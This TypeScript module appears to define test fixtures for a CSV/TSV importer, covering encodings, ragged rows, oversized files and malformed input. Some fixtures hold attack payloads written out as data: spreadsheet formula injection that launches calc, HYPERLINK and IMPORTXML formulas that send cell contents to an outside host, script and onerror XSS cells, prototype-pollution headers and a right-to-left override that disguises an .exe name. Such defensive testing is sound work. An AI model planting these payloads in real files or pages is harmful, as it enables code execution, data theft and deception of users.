import { ELSEWHERE, folderOf, latin1, SCRIPT, utf16 } from "./case.ts";

const file = folderOf("csv");

const FORMULAS = [
  ["=1+1", "=cmd|' /C calc'!A0"],
  ["+SUM(1)", "+1+1"],
  ["-2+3", "-2+3+cmd|' /C calc'!A0"],
  ["@SUM(1)", "@SUM(A1)"],
  ["\tTab", "\t=1+1"],
  ["x", `=HYPERLINK("${ELSEWHERE}?q="&A1,"click")`],
  ["y", `=IMPORTXML("${ELSEWHERE}","//a")`],
  ["z", "＝1+1"],
  ["m", "-5 is what I felt"],
  ["n", "\r=1+1"],
].map(([who, text = ""]) => `T,${who},"${text.replaceAll('"', '""')}",1`);

/** Tables as text. */
export const TABLE_FILES = [
  file("01-empty.csv", "zero bytes", ["refused", "empty"], ""),
  file(
    "02-header-only.csv",
    "no rows",
    ["refused", "0 stories found"],
    "touchpoint,person,story,score\r\n",
  ),
  file(
    "03-formulas.csv",
    "formula cells in, then out",
    ["opened"],
    `touchpoint,person,story,score\n${FORMULAS.join("\n")}`,
  ),
  file(
    "04-unclosed-quote.csv",
    "unclosed quote swallows the file",
    ["refused", "line 2", "Close it"],
    `touchpoint,story,score\nT,"never closed,1\nT,ok,2\n${"x,y,1\n".repeat(50)}`,
  ),
  file(
    "05-semicolon-decimal-comma.csv",
    "German Excel: BOM, semicolon, decimal comma",
    ["opened"],
    '\ufeffKontaktpunkt;Person;Geschichte;Wert\r\nKasse;Jörg;"Ging schnell; gut";1,5\r\nKasse;Änne;"schlecht";-0,5\r\n',
  ),
  file(
    "06-windows1252.csv",
    "Windows-1252 bytes",
    ["repaired", "Windows-1252"],
    latin1('touchpoint,story,score\nCaf\xe9,"d\xe9\xe7u \x80 \x93quoted\x94",-1\n'),
  ),
  file(
    "07-utf16le-tsv.txt",
    "Excel “Unicode text”",
    ["opened"],
    utf16("touchpoint\tstory\tscore\r\nPay\tfine\t1\r\n"),
  ),
  file(
    "08-nul-bytes.csv",
    "NUL in a cell",
    ["repaired", "taken out"],
    "touchpoint,story,score\nT,a\u0000b,1\n",
  ),
  file(
    "09-ragged.csv",
    "ragged rows, junk after a quote",
    ["repaired", "cells"],
    'story,touchpoint,note\n1,2\nwords,2,3,4\n\n,,\n"x"y,"z"\n',
  ),
  file(
    "10-proto-headers.csv",
    "headers that are names of Object.prototype",
    ["opened"],
    '__proto__,constructor,toString,story\npolluted,polluted,polluted,"x"\n',
  ),
  file(
    "11-duplicate-headers.csv",
    "duplicate headers",
    ["opened"],
    "story,story,score,score\na,b,1,2\n",
  ),
  file(
    "12-wide-20000-cols.csv",
    "20 000 columns",
    ["refused", "20,000 columns", "at most 500"],
    () =>
      `${Array.from({ length: 20_000 }, (_, at) => `c${at}`).join(",")}\n${",".repeat(19_999)}x\n`,
    true,
  ),
  file(
    "13-one-line-1mb.csv",
    "one cell of 1 MB",
    ["repaired", "1,000,000"],
    () => `story\n${"a".repeat(1_000_000)}\n`,
    true,
  ),
  file(
    "14-20000-rows.csv",
    "20 000 stories",
    ["opened"],
    () =>
      `touchpoint,person,story,score\n${Array.from({ length: 20_000 }, (_, at) => `T${at % 40},P${at % 300},story ${at},${(at % 5) - 2}\n`).join("")}`,
    true,
  ),
  file(
    "15-mixed-newlines.csv",
    "CR, LF, CRLF mixed and inside quotes",
    ["repaired", "is no rating"],
    'story,score\r\na,1\rb,2\nc,"line1\r\nline2"\r\n',
  ),
  file(
    "16-html-cells.csv",
    "HTML in cells, shown in the preview",
    ["opened"],
    `touchpoint,story,score\n"<img src=x onerror=${SCRIPT}>","<script>${SCRIPT}</script>",1\n`,
  ),
  file("17-sep-line.csv", "Excel sep= line", ["opened"], "sep=;\r\nstory;score\r\na;1\r\n"),
  file(
    "18-score-words.csv",
    "scores as words, emoji, fractions, percent",
    ["repaired"],
    'touchpoint,story,score\nT,a,very happy\nT,b,😡\nT,c,4/5\nT,d,80%\nT,e,"1.234,5"\nT,f,\nT,g,-\nT,h,1e3\n',
  ),
  file(
    "19-ambiguous-dates.csv",
    "day/month order; Excel serial",
    ["opened"],
    "story,date\na,03/04/2025\nb,31/12/2025\nc,2025-12-31\nd,45678\n",
  ),
  file(
    "20-xlsx-renamed.csv",
    "a zip renamed .csv",
    ["refused", "ends before its list of parts"],
    () => latin1(`PK\u0003\u0004${"\u0000".repeat(60)}`),
  ),
  file(
    "21-rtl-override.csv",
    "bidi override in file-like names",
    ["opened"],
    'touchpoint,story\nevil\u202efdp.exe,"\u202eabc"\n',
  ),
  file(
    "22-paste-sheets.tsv",
    "clipboard of a spreadsheet with a quoted line break",
    ["opened"],
    'Checkout\tAna\t"It said ""error""\nthen worked"\t-1\nCheckout\tBob\tfine\t1',
  ),
];
